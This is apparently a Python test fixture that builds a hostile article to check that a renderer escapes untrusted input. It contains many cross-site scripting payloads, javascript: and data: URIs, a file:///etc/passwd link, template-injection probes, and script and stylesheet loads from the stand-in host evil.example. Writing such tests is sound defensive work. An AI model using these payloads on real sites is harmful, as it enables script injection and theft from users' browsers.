"""An article by somebody who wants its readers' browsers."""

from tests.factories import (
    make_article,
    make_code_block,
    make_document,
    make_metadata,
    make_question,
    make_translation,
)

SLUG = "hostile"
BREAKOUT = "</script></title></style><script>window.taken = 'title'</script>"
QUESTION = "Why?</script><script>window.taken = 'question'</script><!--"
ERROR = "EHOSTILE: <img src=x onerror=\"window.taken='error'\">"

BODY = f"""\
<script>window.taken = "script"</script>
<script src="https://evil.example/x.js"></script>
<img src="https://evil.example/pixel.png" onerror="window.taken='onerror'">
<svg onload="window.taken='svg'"><style>body {{ display: none }}</style></svg>
<iframe srcdoc="<script>parent.taken='srcdoc'</script>"></iframe>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>* {{ display: none !important }} @import "https://evil.example/y.css";</style>
<form action="https://evil.example/"><button autofocus onfocus="window.taken='focus'">x</button>
<!-- <script>window.taken = "comment"</script> --> <![CDATA[<script>window.taken='c'</script>]]>

[js](javascript:window.taken='link') [JS](JaVaScRiPt:window.taken='case')
[tab](java&#9;script:window.taken='tab') [entity](&#106;avascript:window.taken='entity')
[data](data:text/html,<script>window.taken='data'</script>) [vbs](vbscript:msgbox(1))
[attribute](https://example.com/"onmouseover="window.taken='attribute')
[title](https://example.com 'x" onmouseover="window.taken=1')
[host](//evil.example/) [file](file:///etc/passwd) <javascript:window.taken='auto'>
![pixel](https://evil.example/pixel.png) ![data](data:image/svg+xml,<svg onload=alert(1)>)
![js](javascript:window.taken='image') ![quote](x" onerror="window.taken='quote')

{{{{ 7 * 7 }}}} {{% raw %}} {{{{ config }}}} ${{7*7}} <%= 7 * 7 %>

## Heading <script>window.taken = "heading"</script> {{#page-content onclick=alert(1)}}

## " onmouseover="window.taken='anchor'

## Page content

## Page q

## Question 1

## constructor

## __proto__

| Error | Cause | Solution |
|:--|:-:|--:|
| `{ERROR}` | <b onclick="window.taken=1">c</b> | [s](javascript:window.taken='cell') |

```html"><script>window.taken='fence'</script>
</code></pre><script>window.taken = "code"</script>
```

{"W" * 3_000}

\u202egnp.exe\u202c and \u2066isolate and \u200b\u200bnothing \U000e0041\U000e0042

> {"nested " * 300}
"""


def hostile_document() -> str:
    """The article as a document; every part of it that a page shows is an attack."""
    article = make_article(
        slug=SLUG,
        metadata=make_metadata(
            id="art_Hostile00001",
            author='"><script>window.taken="author"</script>',
            tags=['"><img src=x onerror="window.taken=1">', "tag'&<"],
            keywords=["</script><script>window.taken='keyword'</script>"],
            versions=["<svg/onload=window.taken='version'>"],
        ),
        translations=[
            make_translation(
                title=f"Hostile {BREAKOUT}",
                summary=f'{BREAKOUT} {{{{ 7 * 7 }}}} " onfocus=alert(1) autofocus x="',
                body=BODY,
                questions=[make_question(question=QUESTION, answer=BODY.partition("\n\n")[0])],
                code_blocks=[
                    make_code_block(language='x"><script>', content=BREAKOUT, description=BREAKOUT)
                ],
            )
        ],
    )
    return make_document(article)
